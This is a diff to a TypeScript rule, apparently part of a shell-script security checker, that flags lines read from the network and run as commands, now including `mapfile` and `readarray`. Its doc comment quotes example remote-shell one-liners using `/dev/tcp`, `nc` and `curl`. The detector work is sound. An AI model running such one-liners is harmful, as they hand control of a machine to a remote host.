@@ -182,14 +182,17 @@ function networkFeed(read: Invocation, ctx: RuleContext, loopRedirs: readonly In
 }
 
 /** The names a `read` assigns. */
+/** The builtins that store lines of their stdin in variables. */
+const LINE_READERS = new Set(['read', 'mapfile', 'readarray']);
+
 function readNames(inv: Invocation): string[] {
   const names = inv.args.map((a) => a.value ?? '').filter((v) => /^[A-Za-z_]\w*$/.test(v));
-  return names.length > 0 ? names : ['REPLY'];
+  return names.length > 0 ? names : [inv.name === 'read' ? 'REPLY' : 'MAPFILE'];
 }
 
 /**
- * `exec 3<>/dev/tcp/h/p; while read c <&3; do $c; done`, `nc h p | while read c; do eval "$c"; done`: lines read
- * from the network run as commands (a command word, `eval`, `sh -c`). The loop's own redirect shows up as the
+ * `exec 3<>/dev/tcp/h/p; while read c <&3; do $c; done`, `nc h p | while read c; do eval "$c"; done`,
+ * `mapfile -t a < <(curl …); "${a[@]}"`: lines read from the network run as commands (a command word, `eval`, `sh -c`). The loop's own redirect shows up as the
  * `:` the walker records for a compound command.
  */
 function runsNetworkLines(inv: Invocation, ctx: RuleContext): string | false {
@@ -197,7 +200,7 @@ function runsNetworkLines(inv: Invocation, ctx: RuleContext): string | false {
   const script = ctx.script ?? [];
   const loopRedirs = script.filter((i) => i.name === ':' && i.redirs.length > 0 && i.args.length === 0);
   for (const r of script) {
-    if (r.name !== 'read') continue;
+    if (!LINE_READERS.has(r.name)) continue;
     const src = networkFeed(r, ctx, loopRedirs);
     if (!src) continue;
     const uses = readNames(r).some((n) => new RegExp(`\\$\\{?${n}\\b`).test(inv.display));
